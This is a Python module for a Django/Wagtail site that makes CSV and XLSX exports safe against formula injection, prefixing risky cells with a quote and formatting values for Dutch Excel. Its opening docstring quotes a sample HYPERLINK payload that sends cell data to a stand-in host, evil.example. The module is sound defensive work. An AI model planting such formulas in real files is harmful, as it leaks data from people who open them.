"""CSV exports that a spreadsheet program cannot turn into formulas (CSV/formula injection).

A cell that starts with ``= + - @`` (or a tab or carriage return, which some programs skip
before reading a formula) is run as a formula when the file is opened: a contact name
``=HYPERLINK("https://evil.example/?"&A1, "klik")`` leaks data. Following OWASP, such text gets
a leading ``'``, which spreadsheets show as text. Numbers stay numbers (a negative int is
not text someone typed). Every CSV export writes through :func:`csv_writer` /
:func:`csv_dict_writer`, or, for Wagtail's list exports (snippets, modeladmin),
:class:`SafeSpreadsheetExportMixin`; XLSX is safe already (Wagtail writes formula-like
strings as text).

Wagtail's list exports write CSV in the Dutch Excel dialect (:class:`DutchExcel`: ``;`` between
columns, a UTF-8 byte order mark first), so Dutch Excel opens them in columns with accents intact,
and show values as the admin does (:class:`SafeSpreadsheetExportMixin`): a choice's label rather than
its stored value ("Bevestigd", not "confirmed"), "Ja"/"Nee", local time (``TIME_ZONE``) to the
second, decimal commas.
"""

import contextlib
import csv
import datetime
import decimal
import io
from collections import OrderedDict
from collections.abc import Iterable, Sequence
from typing import Any

import openpyxl
from django.core.exceptions import FieldDoesNotExist
from django.utils import formats, timezone
from django.utils.text import capfirst
from django.utils.translation import gettext
from openpyxl.styles import Font
from wagtail.coreutils import multigetattr

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: Any) -> Any:
    """``value`` as a spreadsheet shows it as text; non-text values are returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _Utf8Echo:
    """A file-like object whose ``write`` returns the UTF-8 bytes (a streamed response's chunks)."""

    def write(self, value: str) -> bytes:
        return value.encode("utf-8")


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow(self._neutralise(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)

    def _neutralise(self, row):
        return [neutralise_cell(value) for value in row]

    def __getattr__(self, name):  # writeheader, dialect
        return getattr(self._writer, name)


class _SafeDictWriter(_SafeWriter):
    def _neutralise(self, row):
        return {key: neutralise_cell(value) for key, value in row.items()}


def csv_writer(out, **kwargs) -> _SafeWriter:
    """Like :func:`csv.writer`, with every cell neutralised."""
    return _SafeWriter(csv.writer(out, **kwargs))


def csv_dict_writer(out, fieldnames, **kwargs) -> _SafeDictWriter:
    """Like :class:`csv.DictWriter`, with every cell neutralised."""
    return _SafeDictWriter(csv.DictWriter(out, fieldnames, **kwargs))


class DutchExcel(csv.excel):
    """Dutch Excel splits CSV on ``;`` (the comma is its decimal separator)."""

    delimiter = ";"


#: Written first, so Excel reads the file as UTF-8 rather than the Windows code page.
UTF8_BOM = "\ufeff"


def yes_no(value: bool | None) -> str:
    """A boolean as people read it: "Ja" / "Nee" (empty for unknown)."""
    if value is None:
        return ""
    return gettext("Yes") if value else gettext("No")


def local_datetime(value: datetime.datetime) -> datetime.datetime:
    """``value`` in local time (``TIME_ZONE``), to the second, naive (spreadsheets have no time zones)."""
    if timezone.is_aware(value):
        value = timezone.make_naive(value, timezone.get_current_timezone())
    return value.replace(microsecond=0)


def _csv_datetime(value: datetime.datetime) -> str:
    return formats.date_format(local_datetime(value), "SHORT_DATETIME_FORMAT")


def _csv_date(value: datetime.date) -> str:
    return formats.date_format(value, "SHORT_DATE_FORMAT")


def _csv_decimal(value: decimal.Decimal) -> str:
    return formats.number_format(value, use_l10n=True)


class SafeSpreadsheetExportMixin:
    """For Wagtail index views with ``list_export``: CSV cells are neutralised (XLSX already is),
    in the :class:`DutchExcel` dialect with a byte order mark; values as the admin shows them."""

    # Wagtail's default writes XLSX datetimes in UTC (an hour behind the admin) with microseconds.
    # Checked in order: a datetime is a date too, a bool an int.
    custom_value_preprocess = {
        datetime.datetime: {"csv": _csv_datetime, "xlsx": local_datetime},
        datetime.date: {"csv": _csv_date, "xlsx": None},
        datetime.time: {"csv": lambda value: value.strftime("%H:%M"), "xlsx": None},
        bool: {"csv": yes_no, "xlsx": yes_no},
        decimal.Decimal: {"csv": _csv_decimal},
        list: {
            "csv": lambda value: ", ".join(map(str, value)),
            "xlsx": lambda value: ", ".join(map(str, value)),
        },
    }

    def get_heading(self, queryset, field) -> str:
        return capfirst(super().get_heading(queryset, field))

    def to_row_dict(self, item) -> OrderedDict:
        """Like Wagtail's, with a choice field's label instead of its stored value; a column the
        model lacks comes from the view's ``export_<column>(item)`` method or, in modeladmin, from
        the ModelAdmin's method of that name."""
        row = OrderedDict()
        for field in self.list_export:
            if getter := getattr(self, f"export_{field}", None):
                row[field] = getter(item)
                continue
            # modeladmin: a column can be a method of the ModelAdmin (as in its list_display).
            if (admin_getter := getattr(getattr(self, "model_admin", None), field, None)) and callable(
                admin_getter
            ):
                row[field] = admin_getter(item)
                continue
            model_field = None
            if meta := getattr(item, "_meta", None):  # reports export dicts
                with contextlib.suppress(FieldDoesNotExist):
                    model_field = meta.get_field(field)
            if model_field is not None and model_field.choices and not model_field.is_relation:
                row[field] = capfirst(getattr(item, f"get_{field}_display")())
            else:
                row[field] = multigetattr(item, field)
        return row

    def stream_csv(self, queryset):
        writer = csv.DictWriter(_Utf8Echo(), fieldnames=self.list_export, dialect=DutchExcel)
        yield UTF8_BOM.encode()
        yield writer.writerow({field: self.get_heading(queryset, field) for field in self.list_export})
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item))

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return neutralise_cell(value) if export_format == "csv" else value


def xlsx_bytes(sheets: Iterable[tuple[str, Iterable[Sequence[Any]]]]) -> bytes:
    """An XLSX workbook with one sheet per ``(title, rows)``; the first row is set in bold.

    openpyxl stores a string that starts with ``=`` as a formula, so text cells are neutralised
    here as in CSV.
    """
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets:
        sheet = book.create_sheet(title[:31])
        for index, row in enumerate(rows):
            sheet.append([neutralise_cell(value) for value in row])
            if index == 0:
                for cell in sheet[1]:
                    cell.font = Font(bold=True)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
